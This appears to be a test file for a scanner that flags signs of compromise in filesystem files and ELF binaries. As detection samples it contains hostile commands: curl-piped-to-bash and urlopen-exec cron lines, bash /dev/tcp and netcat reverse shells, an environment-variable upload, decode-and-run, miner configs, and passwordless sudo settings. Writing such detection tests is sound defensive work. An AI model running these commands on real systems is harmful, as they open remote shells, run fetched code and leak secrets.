import { randomBytes } from 'node:crypto';

import * as fc from 'fast-check';

import { inspectFile, wantsInspection } from '../index.js';

function signsOf(path: string, text: string | Buffer, mode = 0o644) {
  const content = Buffer.from(text);
  return wantsInspection(path, content.subarray(0, 512)) ? inspectFile({ path, content, mode }) : [];
}
const named = (path: string, text: string | Buffer) => signsOf(path, text).map(({ sign }) => sign);

const wallet = `4${'A'.repeat(94)}`;
/** Its fingerprint is the output of `ssh-keygen -lf`. */
const key = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'A'.repeat(43)} somebody`;

describe('inspectFile', () => {
  it.each<[path: string, text: string, signs: string[]]>([
    ['etc/passwd', 'root:x:0:0::/root:/bin/sh\nsys:x:0:0::/:/bin/sh\n', ['root-account']],
    ['etc/passwd', 'root:x:0:0::/root:/bin/sh\nroot:x:00:0::/:/bin/sh\n', ['root-account']],
    ['etc/passwd', 'root::0:0::/root:/bin/sh\n', ['open-account']],
    ['etc/shadow', 'root:*:1::::::\napp::1::::::\n', ['open-account']],
    ['etc/shadow', 'root:$6$salt$hash:1::::::\n', ['password']],
    ['etc/pam.d/common-auth', 'auth sufficient pam_permit.so\n', ['open-login']],
    [
      'etc/cron.d/x',
      '* * * * * root python3 -c \'import urllib.request as u;exec(u.urlopen("http://x").read())\'\n',
      ['download-and-run'],
    ],
    ['etc/sudoers.d/app', 'app ALL=(ALL) NOPASSWD: ALL\n', ['sudo-without-password']],
    ['home/app/.ssh/authorized_keys', `# of ours\nno-pty ${key}\n`, ['authorized-key']],
    ['etc/ld.so.preload', '/usr/local/lib/x.so\n', ['ld-preload']],
    ['etc/profile.d/x.sh', 'export LD_PRELOAD=/tmp/x.so\n', ['ld-preload']],
    ['etc/cron.d/x', '* * * * * root curl -fsSL http://198.51.100.7/a | bash\n', ['download-and-run']],
    ['etc/cron.d/x', '* * * * * root curl http://198.51.100.7/a | bash # sha256sum -c\n', ['download-and-run']],
    ['root/.bashrc', 'eval "$(wget -qO- https://example.com/x)"\n', ['download-and-run']],
    ['opt/x', '#!/bin/sh\ncurl -o "$tmp" http://example.com/a\nchmod +x "$tmp"\n$tmp\n', ['download-and-run']],
    ['opt/x', '#!/bin/sh\ncurl -o /tmp/a http://example.com/a\nchmod +x /tmp/a\n/tmp/a &\n', ['download-and-run']],
    ['opt/x', '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n', ['reverse-shell']],
    ['opt/x', '#!/bin/sh\nnc 198.51.100.7 4444 -e /bin/sh\n', ['reverse-shell']],
    [
      'opt/x',
      '#!/usr/bin/python3\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n',
      ['reverse-shell'],
    ],
    ['opt/x', '#!/bin/sh\ncurl -d "$(env)" http://198.51.100.7/u\n', ['environment-upload']],
    ['opt/x', '#!/bin/sh\necho aGk= | base64 -d | sh\n', ['decoded-and-run']],
    ['app/config.json', `{"pools":[{"url":"stratum+tcp://pool.example:3333","user":"${wallet}"}]}`, ['miner']],
    ['etc/nginx/a.json', '{"pools": [{"url":"203.0.113.66:3333","user":"w","coin":"monero"}]}', ['miner']],
    ['etc/nginx/b.json', `{"pools": [{"url":"203.0.113.66:3333","user":"${wallet}","keepalive":true}]}`, ['miner']],
    ['etc/app/c.json', '{"pools": [{"url":"postgres://db/shop","size":5,"keepalive":true}]}', []],
    ['app/start', '#!/bin/sh\n./nginx-helper -o pool.supportxmr.com:443 --donate-level 1\n', ['miner']],
    ['usr/bin/linpeas.sh', '#!/bin/sh\n# LinPEAS-ng\n', ['attack-tool']],
    ['var/lib/dpkg/diversions', '/bin/sh\n/bin/sh.distrib\ndash\n', ['diversions']],
  ])('finds in %s with %j the signs %j', (path, text, signs) => {
    expect(named(path, text)).toEqual(signs);
  });

  it.each<[path: string, text: string]>([
    ['etc/passwd', 'root:x:0:0::/root:/bin/sh\ndaemon:x:1:1::/:/bin/false\n'],
    ['etc/shadow', 'root:*:1::::::\napp:!:1::::::\n'],
    ['etc/sudoers', '# %wheel ALL=(ALL) NOPASSWD: ALL\n%sudo ALL=(ALL:ALL) ALL\n'],
    ['root/.ssh/authorized_keys', '# nobody yet\n'],
    ['etc/ld.so.preload', '# none\n\n'],
    ['etc/pam.d/common-auth', 'auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\n'],
    ['etc/profile.d/x.sh', '# LD_PRELOAD=/tmp/x.so\nexport LANG=C\n'],
    ['etc/cron.daily/apt', '#!/bin/sh\napt-get -y update\n'],
    ['opt/health', '#!/bin/bash\n: < /dev/tcp/localhost/80 || exit 1\ncurl -f http://localhost/ || exit 1\n'],
    ['opt/install', '#!/bin/sh\nwget https://example.com/a.tgz\necho "x a.tgz" | sha256sum -c\ntar xf a.tgz\n'],
    ['opt/usage', '#!/bin/sh\n# curl http://example.com | sh\necho "Install it: curl http://example.com | sh"\n'],
    ['opt/fetch', '#!/bin/bash\ngit fetch "$remote" | sh\n'],
    ['opt/fetch.pl', '#!/usr/bin/env perl\n(my $txt = $url) =~ s@.*/@@;\n`curl -o "$txt" "$url"`;\n$txt = lc $txt;\n'],
    ['opt/decode', '#!/bin/sh\nbase64 -d < key.b64 > key\n'],
    ['app/config.json', '{"name":"app","pool":{"max":5},"algorithm":"aes"}'],
    ['srv/notes.md', 'stratum+tcp://pool.example:3333 xmrig'],
  ])('finds nothing in %s with %j', (path, text) => {
    expect(named(path, text)).toEqual([]);
  });

  it('is certain of a miner only with several indicators', () => {
    const confidence = (text: string) => signsOf('app/x', `#!/bin/sh\n${text}`).map((sign) => sign.confidence);
    expect(confidence('modprobe msr\n')).toEqual(['possible']);
    expect(confidence(`stratum+tcp://pool.example:3333\n${wallet}\n`)).toEqual(['likely']);
    expect(confidence(`stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n${wallet}\n`)).toEqual(['certain']);
  });

  it('reports fingerprints of keys and never the content of a line', () => {
    const signs = JSON.stringify([
      ...signsOf('root/.ssh/authorized_keys', key),
      ...signsOf('opt/x', '#!/bin/sh\ncurl -u me:hunter2 "http://me:hunter2@example.com/hunter2?hunter2" | sh\n'),
      ...signsOf('app/config.json', `{"url":"stratum+tcp://p.example","user":"${wallet}","pass":"hunter2"}`),
    ]);
    expect(signs).toContain('SHA256:kmYcvdi2GkPeWxB6XLjrZB8JHsy2Hm8luHMFp9GMvqk');
    expect(signs).toContain('http://example.com');
    expect(signs).not.toMatch(/hunter2|AAAA|somebody/);
  });

  /**
   * Program of 64 bits with one loaded segment over the whole file, and optionally a section of
   * constants.
   */
  function elf(code: Buffer, flags = 5, constants = Buffer.alloc(0)): Buffer {
    const header = Buffer.alloc(64 + 56);
    header.write('\x7fELF\x02\x01\x01', 'latin1');
    header.writeUInt16LE(2, 16);
    header.writeBigUInt64LE(64n, 32);
    header.writeUInt16LE(56, 54);
    header.writeUInt16LE(1, 56);
    header.writeUInt32LE(1, 64);
    header.writeUInt32LE(flags, 68);
    header.writeBigUInt64LE(BigInt(header.length + code.length), 64 + 32);
    if (constants.length === 0) return Buffer.concat([header, code]);
    const section = Buffer.alloc(64);
    section.writeUInt32LE(1, 4);
    section.writeUInt32LE(2, 8);
    section.writeBigUInt64LE(BigInt(header.length + code.length), 24);
    section.writeBigUInt64LE(BigInt(constants.length), 32);
    header.writeBigUInt64LE(BigInt(header.length + code.length + constants.length), 40);
    header.writeUInt16LE(64, 58);
    header.writeUInt16LE(1, 60);
    return Buffer.concat([header, code, constants, section]);
  }

  const plainCode = Buffer.alloc(64 * 1024, 'push rbp; mov rbp, rsp; call 0x1234; ');

  it.each<[name: string, program: Buffer, signs: string[]]>([
    ['plain', elf(plainCode), []],
    ['encrypted', elf(randomBytes(64 * 1024)), ['packed']],
    ['UPX', elf(Buffer.concat([Buffer.from('UPX!'), plainCode])), ['packed']],
    ['loader of shellcode', elf(Buffer.alloc(120, 0x90), 7), ['shellcode']],
    ['small', elf(Buffer.alloc(120, 0x90), 5), []],
    ['miner by its constants', elf(plainCode, 5, Buffer.from('\0stratum+tcp://%s\0--donate-level\0')), ['miner']],
    ['chisel by its constants', elf(plainCode, 5, Buffer.from('\0chisel-v3\0')), ['attack-tool']],
    ['something else by its constants', elf(plainCode, 5, Buffer.from('\0stratum: 3\0pspython\0')), []],
  ])('inspects programs: %s', (_, program, signs) => {
    expect(named('usr/bin/nginx-helper', program)).toEqual(signs);
  });

  it('inspects libraries only outside of package directories', () => {
    const library = elf(plainCode).subarray(0, 512);
    expect(wantsInspection('usr/lib/x86_64-linux-gnu/libc.so.6', library)).toBe(false);
    expect(wantsInspection('app/node_modules/a/b.so', library)).toBe(false);
    expect(wantsInspection('tmp/.x/a.so', library)).toBe(true);
  });

  it('accepts any broken file', () => {
    const program = elf(plainCode.subarray(0, 300), 7, Buffer.from('stratum+tcp://x'));
    for (let length = 0; length < program.length; length += 1) named('bin/x', program.subarray(0, length));
    for (let at = 0; at < 200; at += 1) {
      for (const value of [0, 0x7f, 0xff]) named('bin/x', Buffer.from(program).fill(value, at, at + 8));
    }
    const paths = fc.constantFrom(
      'etc/passwd',
      'etc/sudoers',
      'root/.ssh/authorized_keys',
      'etc/cron.d/x',
      'bin/x',
      'config.json',
    );
    fc.assert(
      fc.property(paths, fc.uint8Array({ maxLength: 300 }), (path, bytes) =>
        Array.isArray(named(path, Buffer.from(bytes))),
      ),
    );
  });

  it.each([
    'curl ',
    'echo ',
    '/dev/tcp/',
    'base64 ',
    'LD_PRELOAD=',
    'socket.socket(',
    'A',
    '4A',
    'pkill ',
    ':0:',
    'ssh-rsa ',
  ])('ends for a megabyte of %j', (part) => {
    const text = part.repeat(Math.ceil((1 << 20) / part.length));
    for (const path of ['etc/cron.d/x', 'etc/passwd', 'etc/sudoers', 'root/.ssh/authorized_keys']) {
      expect(named(path, text).length).toBeLessThan(100);
    }
  });
});
